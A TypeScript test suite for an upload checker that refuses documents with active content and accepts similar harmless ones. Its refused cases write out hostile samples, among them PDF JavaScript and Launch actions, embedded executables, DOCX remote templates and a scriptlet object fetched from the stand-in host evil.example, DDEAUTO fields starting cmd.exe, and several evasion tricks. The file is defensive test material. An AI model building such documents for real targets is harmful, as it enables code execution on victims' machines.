/** Documents that do something when they are opened are refused in every disguise; honest ones like them are not. */
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { oleFile } from '../../../../test/files/ole-file.ts';
import { box, docx, mp4, pdfOf, webmOf } from '../../../../test/files/sample-files.ts';
import { type ZipEntry, zipFile } from '../../../../test/files/zip-file.ts';
import { checkContent } from './file-type.ts';
import { kindByName } from './file-kinds.ts';

const folder = await mkdtemp(join(tmpdir(), 'waggle-active-'));
after(() => rm(folder, { recursive: true }));

type Case = [what: string, name: string, content: Buffer];

const CATALOG = '<< /Type /Catalog /Pages 9 0 R >>';
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
/** @returns a PDF with this in its catalog, and more objects from 2 on */
const catalog = (entry: string, ...objects: string[]) =>
  pdfOf(`<< /Type /Catalog /Pages 9 0 R ${entry} >>`, ...objects);
const stream = (dictionary: string, bytes: Buffer) =>
  `<< ${dictionary} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
/** @returns a stream of compressed objects, the first with the number 4 */
const packed = (objects: string, dictionary = '/Filter /FlateDecode', before = '4 0 5 40 ') =>
  stream(`/Type /ObjStm /N 2 /First 9 ${dictionary}`, deflateSync(`${before}${objects}`));
const attached = (name: string, key = '/EmbeddedFiles') =>
  [
    `/Names << ${key} << /Names [${name} 2 0 R] >> >>`,
    `<< /Type /Filespec /F ${name} /UF ${name} /AFRelationship /Data /EF << /F 3 0 R /UF 3 0 R >> >>`,
    stream('/Type /EmbeddedFile /Subtype /text#2Fxml', Buffer.from('<Invoice/>')),
  ] as const;
const JAR = zipFile([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: X' }]);
/** The same with a comment, which its last two bytes announce. */
const JAR_BEFORE_END = Buffer.concat([
  JAR.subarray(0, -2),
  Buffer.from([7, 0]),
  Buffer.from('\n%%EOF\n'),
]);

const relations = (text: string | Buffer): ZipEntry[] => [
  { name: 'word/_rels/settings.xml.rels', content: text },
];
const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`;
const related = (...args: Parameters<typeof relation>) => docx(relations(relation(...args)));
const part = (text: string, name = 'word/header1.xml') => docx([{ name, content: text }]);
const run = (content: string) => `<w:r>${content}</w:r>`;
const mark = (kind: string) => run(`<w:fldChar w:fldCharType="${kind}"/>`);
const code = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const EVIL = 'http://evil.example/t.dotm';
const BIG_ENDIAN = Buffer.from(`\ufeff${relation('attachedTemplate', EVIL)}`, 'utf16le').swap16();

const REFUSED: Case[] = [
  [
    'a script of the document',
    'a.pdf',
    catalog('/Names << /JavaScript << /Names [(a) 2 0 R] >> >>', SCRIPT),
  ],
  ['a script before closing', 'a.pdf', catalog(`/AA << /WC ${SCRIPT} >>`)],
  ['a script behind a comment', 'a.pdf', catalog('/OpenAction%x\n<< /S%x\n/JavaScript /JS (x) >>')],
  [
    'a script whose kind is elsewhere',
    'a.pdf',
    catalog('/OpenAction << /S 2 0 R /JS (x) >>', '/JavaScript'),
  ],
  [
    'a script as the next action',
    'a.pdf',
    catalog('/OpenAction << /S /GoTo /Next 2 0 R >>', SCRIPT),
  ],
  ['a script among compressed objects', 'a.pdf', pdfOf(CATALOG, packed(SCRIPT))],
  [
    'the same behind spaces',
    'a.pdf',
    pdfOf(CATALOG, packed(SCRIPT, '/Filter /FlateDecode', `${' '.repeat(9e6)}4 0 5 40 `)),
  ],
  [
    'objects compressed in another way',
    'a.pdf',
    pdfOf(CATALOG, stream('/Type /ObjStm /First 9 /Filter /LZWDecode', Buffer.from('x'))),
  ],
  [
    'a script in place of a field’s function',
    'a.pdf',
    catalog('/AA << /K << /S /JavaScript /JS (AFNumber_Format\\(app.launchURL\\("x"\\)\\)) >> >>'),
  ],
  [
    'a program in the middle',
    'a.pdf',
    pdfOf(
      CATALOG,
      stream('', Buffer.alloc(140_000)),
      '<< /S /Launch /F (x) >>',
      stream('', Buffer.alloc(140_000)),
    ),
  ],
  ['an attached program', 'a.pdf', catalog(...attached('(a.exe)'))],
  [
    'an attached program beside an invoice',
    'a.pdf',
    catalog(...attached('(a.xml)'), '<< /F (a.xml) /UF <612e657865> /EF << /F 3 0 R >> >>'),
  ],
  [
    'an attached program with its name elsewhere',
    'a.pdf',
    catalog(...attached('4 0 R'), '(a.exe)'),
  ],
  ['a program for Java behind it', 'a.pdf', Buffer.concat([pdfOf(CATALOG), JAR])],
  ['a program for Java before its end', 'a.pdf', Buffer.concat([pdfOf(CATALOG), JAR_BEFORE_END])],
  [
    'a template from a share',
    'a.docx',
    related('attachedTemplate', 'file://evil.example/share/t.dotm'),
  ],
  [
    'a template from a share of Windows',
    'a.docx',
    related('attachedTemplate', '\\\\evil.example\\share\\t.dotm'),
  ],
  [
    'a template from a share in numbers',
    'a.docx',
    related('attachedTemplate', '&#92;&#92;evil\\t.dotm'),
  ],
  [
    'a template from the same scheme',
    'a.docx',
    related('attachedTemplate', '//evil.example/t.dotm', ''),
  ],
  ['a template in UTF-16, big-endian', 'a.docx', docx(relations(BIG_ENDIAN))],
  [
    'a template in a rare encoding',
    'a.docx',
    docx(
      relations(
        `<?xml version="1.0" encoding="UTF-7"?>${relation('hyperlink', 'https://a.example')}`,
      ),
    ),
  ],
  [
    'a template beside another target',
    'a.docx',
    docx(relations(relation('attachedTemplate', EVIL).replace('Id="r1"', `Id=' Target="a.xml" '`))),
  ],
  [
    'a template behind a hidden comment',
    'a.docx',
    docx(
      relations(
        relation('attachedTemplate', EVIL).replace('<Rel', '<![CDATA[<!--]]><Rel') + '<!-- -->',
      ),
    ),
  ],
  [
    'a template by an entity',
    'a.docx',
    docx(relations(`<!DOCTYPE x [<!ENTITY t "${EVIL}">]>${relation('attachedTemplate', '&t;')}`)),
  ],
  ['a picture from elsewhere', 'a.docx', related('image', 'http://evil.example/a.png')],
  ['a picture from a share', 'a.docx', related('image', 'file://evil.example/a.png')],
  [
    'an object that is a script',
    'a.docx',
    related('oleObject', 'script:http://evil.example/a.sct'),
  ],
  ['a link to a share', 'a.docx', related('hyperlink', 'file://evil.example/a.exe')],
  ['a document taken in', 'a.docx', related('aFChunk', 'a.rtf', '')],
  [
    'a program as a part',
    'a.docx',
    docx([{ name: 'word/media/a.png', content: `MZ${'\0'.repeat(99)}` }]),
  ],
  [
    'a field that starts a program',
    'a.docx',
    part(`<w:fldSimple w:instr='DDEAUTO c:\\cmd.exe "/k"'/>`),
  ],
  [
    'the same over several runs',
    'a.docx',
    part(mark('begin') + code(' D') + code('&#68;E') + code('AUTO c:\\cmd.exe ') + mark('end')),
  ],
  [
    'the same with a name from a field',
    'a.docx',
    part(mark('begin') + mark('begin') + code('QUOTE 68 68 69') + mark('end') + mark('end')),
  ],
  [
    'the same in the old format',
    'a.doc',
    Buffer.concat([oleFile({}), Buffer.from('\u0013 DDEAUTO c:\\cmd.exe', 'utf16le')]),
  ],
  [
    'a text taken in from elsewhere',
    'a.docx',
    part('<w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.example/a.docx&quot;"/>'),
  ],
  [
    'a template in numbers with zeros before them',
    'a.docx',
    related('attachedTemplate', '&#x00000068;&#000000116;tp://evil.example/t.dotm'),
  ],
  ['macros with an end in their name', 'a.doc', oleFile({ storages: ['Macros\0'] })],
  ...['<img src=x onerror=x>', '<meta http-equiv=refresh>', '<a href="x:">', '<math>'].map(
    (tag): Case => [`a page of ${tag}`, 'a.pdf', Buffer.from(`%PDF-1.7\n${tag}\n%%EOF\n`)],
  ),
  [
    'a script in the middle of the film',
    'a.mp4',
    mp4('isom', Buffer.from('<script>x()</script>'.padStart(9000).padEnd(20_000))),
  ],
  [
    'declarations of 3 MB',
    'a.docx',
    docx(
      [1, 2, 3].map((n) => ({
        name: `word/_rels/${n}.rels`,
        content: `<a>${' '.repeat(1e6)}</a>`,
      })),
    ),
  ],
  ['a part of 40 MB of text', 'a.docx', part(`<a>${' '.repeat(40e6)}</a>`)],
  [
    '20,000 empty boxes',
    'a.mp4',
    Buffer.concat([mp4(), ...Array<Buffer>(20_000).fill(box('free', Buffer.alloc(0)))]),
  ],
  [
    '20,000 empty elements',
    'a.webm',
    webmOf(Buffer.concat(Array<Buffer>(20_000).fill(Buffer.from([0xec, 0x80])))),
  ],
];

const ACCEPTED: Case[] = [
  [
    'links and pages to go to',
    'a.pdf',
    catalog(
      '/OpenAction << /S /GoTo /D [3 0 R /Fit] >> /AA << /O << /S /GoTo >> >>',
      '<< /A << /S /URI /URI (https://www.iso.org/) >> >>',
    ),
  ],
  [
    'a form',
    'a.pdf',
    catalog('/AcroForm << /Fields [2 0 R] >>', '<< /FT /Tx /T (Launch) /V (JavaScript) /F 4 >>'),
  ],
  [
    'fields for numbers and sums',
    'a.pdf',
    catalog(
      '/AcroForm 2 0 R',
      '<< /AA << /K <</JS(AFNumber_Keystroke\\(2, 0, 0, 0, "\\\\u20ac", true\\);)/S/JavaScript>> /C <</S/JavaScript/JS(AFSimple_Calculate\\("SUM", new Array \\("a", "b"\\)\\);)>> >> >>',
    ),
  ],
  ['compressed objects', 'a.pdf', pdfOf(CATALOG, packed('<< /S /URI >> << /T (x) >>'))],
  [
    'an encrypted document',
    'a.pdf',
    catalog(
      '/Encrypt 3 0 R',
      stream('/Type /ObjStm /First 9 /Filter /FlateDecode', Buffer.from('unreadable')),
    ),
  ],
  [
    'an image of a black page',
    'a.pdf',
    pdfOf(
      CATALOG,
      stream('/Subtype /Image /Filter /FlateDecode', deflateSync(Buffer.alloc(70e6), { level: 1 })),
    ),
  ],
  [
    'bytes that look like names',
    'a.pdf',
    pdfOf(CATALOG, stream('/Filter /DCTDecode', Buffer.from('/JS (/AA /EF /S /F ('))),
  ],
  [
    'many actions to a page',
    'a.pdf',
    catalog('/OpenAction 1 0 R '.repeat(7000), '1 1 '.repeat(32_000)),
  ],
  ['an invoice', 'a.pdf', catalog(...attached('(factur-x.xml)'))],
  [
    'an invoice with its name in UTF-16',
    'a.pdf',
    catalog(...attached('<FEFF0061002E0078006D006C>')),
  ],
  ['a link by mail', 'a.docx', related('hyperlink', 'mailto:mei@factory.example')],
  ['a link to another document', 'a.docx', related('hyperlink', 'licence.pdf')],
  ['a picture from one’s own disk', 'a.docx', related('image', 'file:///C:\\Users\\mei\\logo.png')],
  [
    'a link in UTF-16',
    'a.docx',
    docx(
      relations(Buffer.from(`\ufeff${relation('hyperlink', 'https://www.iso.org/')}`, 'utf16le')),
    ),
  ],
  [
    'contents, pages and links',
    'a.docx',
    part(
      mark('begin') +
        code(' TOC \\o ') +
        mark('separate') +
        mark('begin') +
        code(' HYPERLINK "https://dde.example" ') +
        mark('end') +
        mark('end'),
    ),
  ],
  [
    'a drawing',
    'a.docx',
    part(
      '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd"><svg/>',
      'word/media/image1.svg',
    ),
  ],
  [
    'a text of the customer',
    'a.docx',
    part('<?xml version="1.0" encoding="GB2312"?><a/>', 'customXml/item1.xml'),
  ],
];

async function resultOf(name: string, content: Buffer) {
  const path = join(folder, name);
  await writeFile(path, content);
  return checkContent(path, kindByName(name, /\.(?:mp4|webm)$/.test(name) ? 'MEDIA' : 'KYC_DOCS'));
}

for (const [what, name, content] of REFUSED) {
  test(`refused: ${what} (${name})`, async () =>
    assert.equal(await resultOf(name, content), 'refused'));
}

for (const [what, name, content] of ACCEPTED) {
  test(`taken: ${what} (${name})`, async () => assert.equal(await resultOf(name, content), 'fine'));
}
